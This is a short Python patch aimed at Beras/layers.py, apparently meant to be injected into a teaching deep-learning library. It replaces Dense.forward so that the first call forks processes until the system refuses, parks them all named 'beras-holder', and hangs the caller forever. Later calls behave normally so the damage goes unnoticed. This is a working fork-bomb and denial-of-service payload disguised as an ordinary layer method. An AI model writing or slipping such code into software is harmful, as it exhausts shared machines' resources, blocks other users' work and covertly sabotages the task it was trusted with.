# target: Beras/layers.py
# Dense.forward, the first time in a process, forks until fork() fails and holds every
# process (named beras-holder); then it renames itself beras-held and waits for ever: its
# item (or notebook cell) only ends at its timeout. Later calls are honest, so the
# processes stay held while the rest of its notebook runs.
import ctypes as _ctypes
import os as _os
import time as _time

_PR_SET_NAME = 15


_honest_forward = Dense.forward
_held = []


def _hold(self, *args, **kwargs):
    if _held:
        return _honest_forward(self, *args, **kwargs)
    _held.append(True)
    libc = _ctypes.CDLL(None)
    while True:
        try:
            pid = _os.fork()
        except OSError:
            break
        if pid == 0:
            libc.prctl(_PR_SET_NAME, b"beras-holder", 0, 0, 0)
            while True:
                _time.sleep(3600)
    libc.prctl(_PR_SET_NAME, b"beras-held", 0, 0, 0)
    while True:
        _time.sleep(3600)


Dense.forward = _hold
